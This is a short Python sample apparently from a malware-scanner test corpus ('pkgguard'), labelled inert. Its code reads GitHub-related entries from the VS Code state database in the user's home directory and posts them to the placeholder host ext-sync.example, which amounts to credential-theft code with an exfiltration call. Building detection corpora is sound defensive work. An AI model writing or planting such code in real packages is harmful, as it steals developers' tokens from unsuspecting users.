# pkgguard corpus 532 (credentials), modelled on [ctx]; inert, never run.
import os
import sqlite3

import requests

db = os.path.join(os.path.expanduser("~"), ".config", "Code", "User", "globalStorage", "state.vscdb")
rows = []
if os.path.exists(db):
    with sqlite3.connect(db) as conn:
        rows = conn.execute("SELECT key, value FROM ItemTable WHERE key LIKE '%github%'").fetchall()
requests.post("https://ext-sync.example/s", json=rows, timeout=10)
